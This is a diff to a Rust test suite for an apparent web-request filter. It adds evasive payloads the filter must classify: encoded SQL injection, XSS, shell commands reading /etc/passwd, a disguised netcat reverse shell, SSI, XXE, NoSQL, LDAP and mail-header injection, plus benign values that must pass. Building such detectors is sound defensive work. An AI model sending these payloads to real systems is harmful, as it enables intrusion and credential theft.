@@ -403,6 +403,20 @@ const ONE_PER_PATTERN: &[&str] = &[
     "__proto__[admin]",
     "{{7*7}}",
     "java.lang.Runtime.getRuntime()",
+    "1 union/**/select",
+    "/*!50000union*/",
+    "select@^1.from`test`",
+    "select user from dual",
+    "(alert)(1)",
+    "<img/src=x/onerror=x",
+    "/e?c/?asswd",
+    "$(printf 'x'|rev)",
+    "`id`",
+    "| set /a 3482*7301",
+    "<!--#exec cmd=\"ls\" -->",
+    "true, $where: '1 == 1'",
+    "*(|(objectclass=*))",
+    "\nRCPT TO: a@b.example",
 ];
 
 #[test]
@@ -419,5 +433,123 @@ fn each_pattern_has_an_example_that_passes_the_gate() {
             g.set.matches(text.as_bytes()).matched(i),
             "pattern {i} misses {text:?}"
         );
+    }
+}
+
+/// The evasions WAF test tools send (GoTestWAF's cases, read after they missed): comments and
+/// version comments around keywords, spaceless select lists, double encoding with `+`.
+#[test]
+fn sql_written_to_slip_past_filters_is_sql() {
+    for q in [
+        "id=%252f%252a%252a%252f%2575%256e%2569%256f%256e%252f%252a%252a%252f%2573%2565%256c%2565%2563%2574",
+        "q=-1945%2B%2F%2A%21%2555NiOn%2A%2F%2520%2F%2A%21%2553eLEct%2A%2F%2B1%2C2%2C3--",
+        "s=/**8**/and/**8**/0/**8**//*!50000union*//**8**//*!50000select*//**8**/+1",
+        "q=SELECT@^1.FROM`test`",
+        "q=SELECT-1e1FROM`test`",
+        "q=%22union%20select%20-7431.1%2C%20name%2C%20%40aaa%20from%20u_base--w-",
+        "q=%27or%20123.22%3D123.22",
+        "id=%0A%0d+select+user+from+dual+%0A%0D",
+    ] {
+        assert_eq!(query(q), Some("sql"), "{q}");
+    }
+}
+
+/// Markup spelled with character references, handlers right after a closed quote, dialogs
+/// called indirectly.
+#[test]
+fn script_written_to_slip_past_filters_is_script() {
+    for q in [
+        "q=%26lt;svg/onload%26equals;alert(1)%26gt;",
+        "q=%3CIMG%20SRC%3Dj%26%23X41vascript:alert('test')%3E",
+        "q=%3Ca%20href%3Djavas%26%2399;ript:prompt%26%23x28document.domain)%3Exss",
+        "lang=%22onClick=%22(prompt)(1)",
+        "q=%22onwheel=ead(111)",
+        "q=alert.call(null,1)",
+        "q=confirm.apply(null,[1])",
+        "q=alert?.(document?.cookie)",
+        "q=[1].some(confirm)",
+        "q=document[%22cookie%22]",
+        "q=%3Cimg/src=x/onerror=xxx",
+    ] {
+        assert_eq!(query(q), Some("script"), "{q}");
+    }
+}
+
+/// Commands as a shell reads them: quotes and unset variables dropped, globs, substitution.
+#[test]
+fn shell_written_to_slip_past_filters_is_shell() {
+    for q in [
+        "f=;+cat+/et%27c/pa%27ss%27wd",
+        "t=;+$u+cat+/etc$u/passwd$u",
+        "f=/??c/?asswd",
+        "f=/???/??t+/???/??ss??",
+        "f=/e*c/*asswd",
+        "f=$(printf+%27hsab/nib/+e-+4321+1.0.0.721+cn%27|rev)",
+        "x=--exec=`id`--remote=origin",
+        "k=|+set+/a+3482*7301",
+        "c=cat${IFS}/etc/passwd",
+    ] {
+        assert_eq!(query(q), Some("shell"), "{q}");
+    }
+}
+
+/// Server-side includes and XML entities are code; NoSQL and LDAP filters are a query; mail
+/// commands after a line break are a header.
+#[test]
+fn includes_entities_queries_and_mail_commands() {
+    for (q, lang) in [
+        ("x=%3C!--%23exec%20cmd=%22ls%22%20--%3E", "code"),
+        ("x=%3C!--%23include%20file=%22/etc/passwd%22--%3E", "code"),
+        (
+            "x=%3C!DOCTYPE+x+[+%3C!ENTITY+%25+y+SYSTEM+%22//y/y%22%3E+%25y;+]%3E",
+            "code",
+        ),
+        (
+            "x=%3C!DOCTYPE+x+SYSTEM+%22//x/x%22%3E%3Cx%3Ea%3C/x%3E",
+            "code",
+        ),
+        ("q=true,+$where:+%2799+==+88%27", "query"),
+        ("q=db.injection.insert({success:1});", "query"),
+        ("q=%27,+$or:+[+{},+{+%27order%27:%27order", "query"),
+        ("q=(%26(uid=admin)(!(%26(1=0)(userPassword=q))))", "query"),
+        ("q=*(|(objectclass=*))", "query"),
+        ("q=userPassword:2.5.13.18:=123", "query"),
+        ("q=%0ARCPT%20TO:%20test@evil.com%0A", "header"),
+        ("q=%0AV100%20CAPABILITY%0AV101%20FETCH%204791", "header"),
+        ("q=%0AQUIT%0A", "header"),
+    ] {
+        assert_eq!(query(q), Some(lang), "{q}");
+    }
+}
+
+/// What the readings and shapes above must leave alone: ordinary text with references,
+/// apostrophes and dollars, jQuery, Strapi's and Parse's filters, globs in file names, HTML.
+#[test]
+fn the_new_readings_leave_ordinary_values_alone() {
+    for q in [
+        "q=Tom%26amp;Jerry",
+        "q=%26lt;b%26gt;bold%26lt;/b%26gt;",
+        "q=caf%26eacute;",
+        "q=it%27s+a+cat%27s+life",
+        "q=price+$5+or+$10",
+        "q=$(document).ready",
+        "q=$(this).hide()",
+        "filters[price][$gt]=10&filters[title][$contains]=shoe",
+        "where=%7B%22score%22:%7B%22$gt%22:1000%7D%7D",
+        "q=*.txt",
+        "path=/home/*/docs",
+        "q=select-a-plan-from+the+list",
+        "q=selection+from+%60stock%60",
+        "q=(a+OR+b)+AND+(c)",
+        "q=%3C!DOCTYPE+html%3E",
+        "q=%3C!--+comment+--%3E",
+        "q=Data%0Ais+here",
+        "q=what+does+alert+do",
+        "q=%22one%22+%22two%22",
+        "q=O%27Reilly",
+        "q=set+/a+var",
+        "q=5+%2B+3",
+    ] {
+        assert_eq!(query(q), None, "{q}");
     }
 }
